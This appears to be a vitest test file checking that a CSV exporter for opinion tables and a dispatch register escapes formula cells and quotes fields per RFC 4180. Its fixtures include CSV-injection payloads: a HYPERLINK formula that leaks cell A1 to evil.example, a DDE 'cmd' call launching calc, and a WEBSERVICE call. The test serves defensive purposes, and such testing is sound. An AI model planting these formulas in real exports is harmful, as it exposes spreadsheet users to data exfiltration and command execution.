import { describe, expect, it } from 'vitest'
import type { RegisterEntry } from '../../shared/schema.js'
import { csvFile } from '../../server/export/csv.js'
import { opinionTableCsv } from '../../server/export/opinion-table-csv.js'
import { registerCsv } from '../../server/export/register-csv.js'

/** Parses RFC 4180 CSV (quoted fields, doubled quotes, CRLF records) into rows of raw field texts. */
function parse(csv: string): string[][] {
  expect(csv.startsWith('\uFEFF')).toBe(true)
  const rows: string[][] = []
  let row: string[] = []
  let i = 1
  while (i < csv.length) {
    let value = ''
    if (csv[i] === '"') {
      i++
      for (;;) {
        if (csv[i] === '"' && csv[i + 1] === '"') {
          value += '"'
          i += 2
        } else if (csv[i] === '"') break
        else value += csv[i++]
      }
      i++
    } else {
      while (i < csv.length && csv[i] !== ',' && csv[i] !== '\r') value += csv[i++]
    }
    row.push(value)
    if (csv[i] === ',') i++
    else {
      expect(csv.slice(i, i + 2)).toBe('\r\n')
      i += 2
      rows.push(row)
      row = []
    }
  }
  return rows
}

const hostile = [
  '=HYPERLINK("http://evil.example?"&A1,"点击")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1,2)',
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
  '－1',
  'say "hi", then\r\nleave',
]

describe('the CSV writer', () => {
  it('makes every cell that a spreadsheet would run as a formula plain text with a leading apostrophe', () => {
    const [, row] = parse(csvFile(['a'], [hostile]))
    expect(row).toEqual(hostile.map((cell) => (/^[=+\-@\t\r＝＋－＠]/.test(cell) ? `'${cell}` : cell)))
    for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r＝＋－＠]/)
  })

  it('quotes every text field per RFC 4180 and leaves ordinary text and numbers as they were', () => {
    const csv = csvFile(
      ['序号', '意见'],
      [
        [1, '建议增加“高标准农田”的定义'],
        [2, 'a,b "c"'],
      ],
    )
    expect(csv).toBe('\uFEFF"序号","意见"\r\n1,"建议增加“高标准农田”的定义"\r\n2,"a,b ""c"""\r\n')
  })

  it('is what the opinion table and the register are written with', () => {
    const opinions = parse(
      opinionTableCsv([
        { number: 1, quote: '=1+1', opinion: '@cmd', raisedBy: '+张', disposition: '采纳', rationale: '-x' },
      ]),
    )
    expect(opinions[1]).toEqual(['1', "'=1+1", "'@cmd", "'+张", '采纳', "'-x"])
    const entry: RegisterEntry = {
      id: 'e1',
      documentId: 'd1',
      documentTitle: '=WEBSERVICE("http://evil.example")',
      versionNumber: 3,
      contentHash: 'abc',
      documentNumber: '\t=1',
      recipients: '@A1',
      sentOn: '2026-11-27',
      adoptionNote: '',
      signature: '',
      sentBy: '-李',
      recordedBy: 'u1',
      recordedAt: '2026-11-27T10:00:00.000Z',
      supersedes: null,
    }
    const register = parse(registerCsv([entry], 'Asia/Shanghai'))
    expect(register[1]).toEqual([
      "'\t=1",
      '\'=WEBSERVICE("http://evil.example")',
      'v3',
      'abc',
      "'@A1",
      '2026-11-27',
      "'-李",
      // 登记时间 on the office's clock (UTC+8), to the minute.
      '2026-11-27 18:00',
    ])
  })
})
